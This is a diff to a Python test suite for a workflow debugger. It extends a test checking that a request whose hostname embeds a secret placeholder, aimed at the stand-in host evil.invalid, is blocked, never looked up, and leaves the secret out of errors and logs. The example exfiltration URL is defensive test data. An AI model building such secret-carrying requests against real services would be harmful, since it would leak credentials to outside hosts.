@@ -210,14 +210,16 @@ def test_redirect_takes_no_secret_along(tmp_path, monkeypatch, sink, method, sta
     assert (trail.hosts, sink.connections, trail.leaks()) == ({"127.0.0.1"}, [], [])
 
 
-def test_host_made_of_a_secret_is_not_looked_up(tmp_path, monkeypatch, caplog, sink):
-    flow = document(request("http://{{SHOP_KEY}}.evil.invalid/", headers=None))
+@pytest.mark.parametrize("prefix", ["", "api-"], ids=["whole label", "part of a label"])
+def test_host_made_of_a_secret_is_not_looked_up(tmp_path, monkeypatch, caplog, prefix):
+    flow = document(request(f"http://{prefix}{{{{SHOP_KEY}}}}.evil.invalid/", headers=None))
     environment = {"WORKFLOW_DEBUGGER_SECRET_SHOP_KEY": "pl\u00e4nted-S3cret-77"}
 
     trail = execute(tmp_path, monkeypatch, flow, environment=environment, log=caplog)
 
-    assert "the secret 'SHOP_KEY' must not be sent to http://" in trail.error
+    assert f"the secret 'SHOP_KEY' must not be sent to http://{prefix}***.evil.invalid" in trail.error
     assert trail.hosts == set()
+    assert "nted-s3cret" not in trail.text.lower()
     assert trail.leaks("pl\u00e4nted-S3cret-77") == []
 
 
